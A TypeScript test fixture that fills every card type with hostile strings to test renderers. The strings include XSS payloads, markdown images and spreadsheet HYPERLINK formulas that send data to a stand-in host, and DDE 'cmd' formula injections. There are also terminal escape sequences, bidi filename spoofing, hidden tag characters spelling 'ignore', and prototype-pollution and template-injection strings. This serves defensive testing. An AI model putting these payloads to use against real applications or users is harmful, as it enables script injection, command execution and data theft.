/** Cards of every type with hostile words everywhere, for tests of anything that draws them. */
import type { Card } from "@etui/protocol/card";
import { CARD_TYPES } from "@etui/protocol/cards/card-type";
import { KINDS } from "../kinds.ts";

/** What people paste, import and are sent. */
export const HOSTILE = {
  script: "<script>alert(1)</script>",
  "image with a handler": '"><img src=x onerror=alert(1)>',
  "drawing with a handler": "<svg/onload=alert(1)>]]></style><foreignObject>",
  "link that runs": "[click](javascript:alert(1)) <javascript:alert(1)> javascript:alert(1)",
  "image that tells": "![](http://canary.example/?d=secret) ![x][y]",
  "autolink in brackets": "<https://canary.example/>",
  "markdown blocks": "# head\n\n> quote\n\n- [ ] item\n\n```\ncode\n```\n\n| a | b |\n| --- | --- |",
  "table breaker": "a | b \\| c \\\\| d",
  "terminal orders": "\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b]8;;http://canary.example\u001b\\x",
  formula: '=HYPERLINK("http://canary.example/"&A1,"ok")',
  "formula behind a tab": "\t=cmd|' /C calc'!A0",
  "formula by sign": "+1+cmd|' /C calc'!A0",
  "formula at sign": "@SUM(1+1)*cmd",
  "reversed reading": "\u202etxt.exe\u2066 \u2069\u200f\u061c",
  "hidden words": `visible${Array.from("ignore", (sign) => String.fromCodePoint(0xe0000 + sign.charCodeAt(0))).join("")}`,
  "half characters": "\ud800 \udc00 a\ud83d",
  "zero and friends": "\u0000\u0008\u007f\u0085\u2028\u2029",
  "long word": "x".repeat(10_000),
  "long Chinese word": "汉".repeat(10_000),
  "stacked marks": `a${"\u0301".repeat(10_000)}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of Adaptive Cards is written so
  template: "${1+1} {{DATE(2026-01-01)}} {{7*7}} {a|b} {b} <%= 1 %>",
  "no characters": "\ufffe a\uffff\ufdd0 \u{1fffe}",
  "object's own words": "__proto__",
  "object's own words between others": "a\n__proto__proto__\n{b|__proto__} constructor",
  empty: "",
} as const;

/** Words of the product itself, which data cannot change. */
const KEPT = new Set([
  "type",
  "kind",
  "role",
  "style",
  "state",
  "tone",
  "good",
  "chart_type",
  "category_kind",
  "of",
  "key",
]);

function poisoned<Value>(value: Value, text: string): Value {
  if (typeof value === "string") return text as Value;
  if (Array.isArray(value)) return value.map((item) => poisoned(item, text)) as Value;
  if (typeof value !== "object" || value === null) return value;
  const entries = Object.entries(value).map(([key, part]) => [
    key,
    KEPT.has(key) ? part : poisoned(part, text),
  ]);
  return Object.fromEntries(entries) as Value;
}

export const hostileCards = (text: string): Card[] =>
  CARD_TYPES.map((type) => {
    const { card_type, data, options } = KINDS[type].sample.en.card;
    return { card_type, data: poisoned(data, text), options: poisoned(options, text) } as Card;
  });
